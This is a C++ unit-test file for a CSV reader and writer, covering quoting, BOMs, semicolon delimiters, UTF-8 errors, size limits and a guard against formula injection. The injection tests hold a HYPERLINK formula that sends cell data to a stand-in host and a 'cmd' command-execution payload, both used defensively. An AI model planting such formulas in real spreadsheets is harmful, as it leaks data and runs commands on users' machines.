#include <gtest/gtest.h>

#include "interchange/csv.hpp"
#include "interchange/file_error.hpp"

using namespace simpul::interchange;

namespace {

FileError csv_error(std::string_view text, const Limits& limits = {}) {
  try {
    read_csv(text, limits);
  } catch (const FileError& e) {
    return e;
  }
  ADD_FAILURE() << "expected a FileError";
  return FileError(FileErrorKind::Malformed, "none");
}

}  // namespace

TEST(Csv, IndonesianExcelSemicolonsBomAndQuotedNewlines) {
  std::string text =
      "\xEF\xBB\xBF"
      "kode;nama;keterangan\r\n"
      "A.1;\"Dinas Komunikasi; Informatika\";\"baris satu\r\nbaris dua\"\r\n"
      "A.2;Bapp\xC3\xA9"
      "da;\"kata \"\"kutip\"\", koma\"\r\n";
  auto rows = read_csv(text);
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0], (Row{"kode", "nama", "keterangan"}));  // the BOM is not part of "kode"
  EXPECT_EQ(rows[1], (Row{"A.1", "Dinas Komunikasi; Informatika", "baris satu\r\nbaris dua"}));
  EXPECT_EQ(rows[2], (Row{"A.2",
                          "Bapp\xC3\xA9"
                          "da",
                          "kata \"kutip\", koma"}));
}

TEST(Csv, CommaIsTheDefaultAndSemicolonsInsideQuotesDoNotCount) {
  auto rows = read_csv("\"a;b;c\",d\nx;y,z\n");
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[0], (Row{"a;b;c", "d"}));
  EXPECT_EQ(rows[1], (Row{"x;y", "z"}));
}

TEST(Csv, BlankLinesKeepTheirPositionAndTrailingOnesAreDropped) {
  auto rows = read_csv("h1,h2\n\nv1,\r\n\r\n\n");
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0], (Row{"h1", "h2"}));
  EXPECT_TRUE(rows[1].empty());
  EXPECT_EQ(rows[2], (Row{"v1", ""}));  // a trailing delimiter is an empty last field
}

TEST(Csv, LastLineWithoutNewlineAndLoneCarriageReturns) {
  auto rows = read_csv("a,b\rc,d");
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1], (Row{"c", "d"}));
}

TEST(Csv, WriteUsesBomCommasCrlfAndQuotesOnlyWhenNeeded) {
  std::string out = write_csv({{"kode", "nama"}, {"A.1", "Dinas \"Kominfo\", Kota"}, {"x;y", "baris\nbaru"}, {""}});
  EXPECT_EQ(out,
            "\xEF\xBB\xBF"
            "kode,nama\r\n"
            "A.1,\"Dinas \"\"Kominfo\"\", Kota\"\r\n"
            "\"x;y\",\"baris\nbaru\"\r\n"
            "\"\"\r\n");
}

TEST(Csv, ASemicolonSeparatedFileForIndonesianExcelReadsBackTheSame) {
  std::vector<Row> rows = {{"Kode", "Nama"}, {"A.1", "Dinas Kominfo; Kota"}, {"1,5", "x"}};
  std::string out = write_csv(rows, ';');
  EXPECT_EQ(out,
            "\xEF\xBB\xBF"
            "Kode;Nama\r\n"
            "A.1;\"Dinas Kominfo; Kota\"\r\n"
            "\"1,5\";x\r\n");
  EXPECT_EQ(read_csv(out), rows);
}

TEST(Csv, RoundTripKeepsEveryCell) {
  std::vector<Row> rows = {
      {"kode", "nama", "catatan"},
      {"B.01", "Kecamatan Pasar Minggu \xF0\x9F\x8F\x9B", ""},
      {"", "", "tengah kosong"},
      {"C;1", "\"kutip\"", "a\r\nb"},
      {"\xC3\xA0\xC3\xA9\xC3\xAE", "'", "<&>"},
      {""},
  };
  EXPECT_EQ(read_csv(write_csv(rows)), rows);
}

TEST(Csv, InvalidUtf8IsRejectedWithItsLine) {
  FileError e = csv_error("kode,nama\nA.1,Bappeda \xE9 Kota\n");  // Latin-1 é
  EXPECT_EQ(e.kind(), FileErrorKind::NotCsv);
  EXPECT_EQ(e.where(), "line 2");
  EXPECT_EQ(to_string(e.kind()), "not_csv");
}

TEST(Csv, BinaryAndZipFilesAreNotCsv) {
  EXPECT_EQ(csv_error(std::string("PK\x03\x04\x14\x00", 6)).kind(), FileErrorKind::NotCsv);
  EXPECT_EQ(csv_error(std::string("a,b\0c", 5)).kind(), FileErrorKind::NotCsv);
}

TEST(Csv, TruncatedQuotedFieldNamesWhereItStarted) {
  FileError e = csv_error("a,b\n1,\"tidak\nditutup\n");
  EXPECT_EQ(e.kind(), FileErrorKind::Malformed);
  EXPECT_EQ(e.where(), "line 2");
}

TEST(Csv, TextAfterClosingQuoteIsMalformed) {
  FileError e = csv_error("a,b\n\"x\"y,z\n");
  EXPECT_EQ(e.kind(), FileErrorKind::Malformed);
  EXPECT_EQ(e.where(), "line 2");
}

TEST(Csv, QuotesInsideAnUnquotedFieldAreKept) { EXPECT_EQ(read_csv("a 5\" pipa,b\n")[0], (Row{"a 5\" pipa", "b"})); }

TEST(Csv, LimitsAreEnforced) {
  Limits limits;
  limits.max_columns = 3;
  EXPECT_EQ(csv_error("a,b,c,d\n", limits).kind(), FileErrorKind::TooLarge);
  limits = {};
  limits.max_rows = 2;
  EXPECT_NO_THROW(read_csv("a\nb\n", limits));
  EXPECT_EQ(csv_error("a\nb\nc\n", limits).kind(), FileErrorKind::TooLarge);
  limits = {};
  limits.max_cell_chars = 4;
  EXPECT_NO_THROW(read_csv("\xC3\xA9\xC3\xA9\xC3\xA9\xC3\xA9,x\n", limits));  // 4 characters, 8 bytes
  EXPECT_EQ(csv_error("abcde\n", limits).kind(), FileErrorKind::TooLarge);
  EXPECT_EQ(csv_error("\"abc\"\"de\"\n", limits).kind(), FileErrorKind::TooLarge);
  limits = {};
  limits.max_uncompressed_bytes = 10;
  EXPECT_EQ(csv_error("0123456789,x\n", limits).kind(), FileErrorKind::TooLarge);
  limits = {};
  limits.max_cells = 5;
  EXPECT_EQ(csv_error("a,b,c\nd,e,f\n", limits).kind(), FileErrorKind::TooLarge);
}

TEST(Csv, EmptyInputGivesNoRows) {
  EXPECT_TRUE(read_csv("").empty());
  EXPECT_TRUE(read_csv("\xEF\xBB\xBF").empty());
}

TEST(Csv, CellsASpreadsheetWouldRunAsFormulasAreWrittenAsText) {
  // OWASP "CSV Injection": a leading '=', '+', '-', '@', tab or CR gets an apostrophe.
  std::string out = write_csv({{"=HYPERLINK(\"http://x.example/?d=\"&A1,\"Klik\")", "+cmd|' /C calc'!A0", "-2+3",
                                "@SUM(A1:A2)", "\tTab", "\rCR", "Aman = biasa"}},
                              ';');
  EXPECT_EQ(out,
            "\xEF\xBB\xBF"
            "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&A1,\"\"Klik\"\")\";'+cmd|' /C calc'!A0;'-2+3;'@SUM(A1:A2);"
            "'\tTab;\"'\rCR\";Aman = biasa\r\n");
  // Signed numbers are numbers, not formulas; an apostrophe a user wrote before one stays.
  EXPECT_EQ(write_csv({{"-5", "+62812", "-1.250,5", "'-5", "-", "'"}}),
            "\xEF\xBB\xBF"
            "-5,+62812,\"-1.250,5\",'-5,'-,'\r\n");
  // A cell that already starts with apostrophes before a formula keeps them: one more is added.
  EXPECT_EQ(write_csv({{"'=1+1"}}),
            "\xEF\xBB\xBF"
            "''=1+1\r\n");
}

TEST(Csv, TheFormulaGuardIsRemovedOnReadSoEveryCellComesBackAsItWas) {
  std::vector<Row> rows = {{"=HYPERLINK(\"http://x.example\")", "+62 812", "-", "@mention", "\tTab"},
                           {"'=1+1", "''@x", "'-5", "-5", "'teks", "'"}};
  EXPECT_EQ(read_csv(write_csv(rows)), rows);
  EXPECT_EQ(read_csv(write_csv(rows, ';')), rows);
  // What a user typed with Excel's text prefix reads as the text it shows.
  EXPECT_EQ(read_csv("'=SUM(A1),'teks\n")[0], (Row{"=SUM(A1)", "'teks"}));
}
